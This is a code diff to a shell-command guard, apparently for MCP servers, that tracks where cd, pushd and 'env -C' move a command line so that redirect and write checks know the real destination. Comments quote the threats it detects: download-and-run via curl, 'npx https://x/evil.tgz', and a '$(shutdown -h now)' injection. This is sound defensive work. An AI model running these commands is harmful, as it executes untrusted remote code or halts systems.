@@ -50,8 +50,9 @@ from mcp_server_guard.shell.strings.runners import (
 )
 from mcp_server_guard.shell.strings.unknown_programs import DATA_PROGRAMS, named_words, run_texts
 from mcp_server_guard.shell.strings.words import expand_braces
-from mcp_server_guard.shell.strings.wrappers import BUILT, DYNAMIC, UNKNOWN, Inner, unwrap
+from mcp_server_guard.shell.strings.wrappers import BUILT, DYNAMIC, UNKNOWN, Inner, all_values, unwrap
 from mcp_server_guard.shell.strings.writes import (
+    Where,
     destination_findings,
     downloaded_files,
     redirect_findings,
@@ -161,6 +162,8 @@ class Expander:
         self.downloaded: set[str] = set()  # files the line downloads (curl -o, wget)
         self.aliases: dict[str, str] = {}  # aliases the line defines
         self.moved = False  # the line has changed directory to a place outside the project (cd ~, cd /, cd ..)
+        self.roots: tuple[str, ...] = ()  # the allowed directories, spelled out (the first: where the line starts)
+        self.where = Where()  # where the line's relative paths may land (``writes.Where``), grown line by line
         self.exported: dict[str, Word] = {}  # variables the line exports (`export PIP_USER=1; pip install x`)
 
     def finding(self, kind: str, detail: str) -> None:
@@ -180,7 +183,8 @@ class Expander:
         self.fetches = self.fetches or FETCHES.search(source) is not None
         self.downloaded.update(redirected_downloads(source))  # `curl -s URL > i.sh; bash i.sh`
         self.redirects.extend(parsed.redirects)
-        self.record(redirect_findings(parsed.redirects))
+        self.where = self._places(parsed.commands)
+        self.record(redirect_findings(parsed.redirects, self.where))
         self.record(parsed.findings)
         if parsed.evaluates_run_time:
             judge_stdin_substitutions(self, feed, depth)  # `read n; (( n ))` fed `a[$(shutdown -h now)]`
@@ -232,6 +236,35 @@ class Expander:
         self._pip_variables(words, self._variables(command.assignments))
         words = with_option_variables(words, self._variables(command.assignments))
         self.argv(words, command, depth, path=path_word.value if path_word is not None else None, feed=feed)
+
+    def _places(self, commands: Sequence[Command]) -> Where:
+        """``self.where`` with the places this line's ``cd``, ``pushd`` and ``env -C`` may take its commands to (all
+        of them, in any order: a loop or a function may run one before any other)."""
+        places = list(self.where.places or self.roots[:1])
+        unknown = self.where.unknown
+        for command in commands:
+            words = command.words
+            head = words[0].value if words else None
+            if head in ("cd", "pushd"):
+                given = [w for w in words[1:] if w.value not in ("-P", "-L", "-e", "-@", "--")][:1]
+                targets: list[Word | None] = [Word("~", "~")] if not given else [given[0]]
+            elif head == "env":
+                targets = [Word(v, v) if isinstance(v, str) else None
+                           for v in all_values(words[1:], ("-C", "--chdir"))]  # fmt: skip
+            else:
+                continue
+            for target in targets:
+                value = target.value if target is not None else None
+                if value is None or value == "-":
+                    unknown = True
+                    continue
+                home = self.home_path.rstrip("/")
+                value = home + value[1:] if home and (value == "~" or value.startswith("~/")) else value
+                if value.startswith("~"):
+                    unknown = True  # ~user, ~+, ~-: somewhere only run time knows
+                    continue
+                places += [posixpath.normpath(posixpath.join(place, value)) for place in places or ["/"]]
+        return Where(self.home_path, self.roots, tuple(dict.fromkeys(places))[:32], unknown)
 
     def _pip_variables(self, words: Sequence[Word], variables: Sequence[tuple[str, Word]]) -> None:
         """A pip or uv variable given to a program that may run them (``assignments.option_variables_reach``)."""
@@ -315,7 +348,7 @@ class Expander:
         self.found.append(Found(argv, text, moved=self.moved))
         program = posixpath.basename(argv[0])
         rest = list(words[1:])
-        self.record(destination_findings(program, argv, self.home_path, self.moved))
+        self.record(destination_findings(program, argv, self.where, self.moved))
         self._downloads(program, argv)
         if program in _URL_RUNNERS and any(a.startswith(("http://", "https://")) for a in argv[1:]):
             # Threat: `deno run -A https://…`, `npx https://x/evil.tgz`: code fetched and run as it arrives.
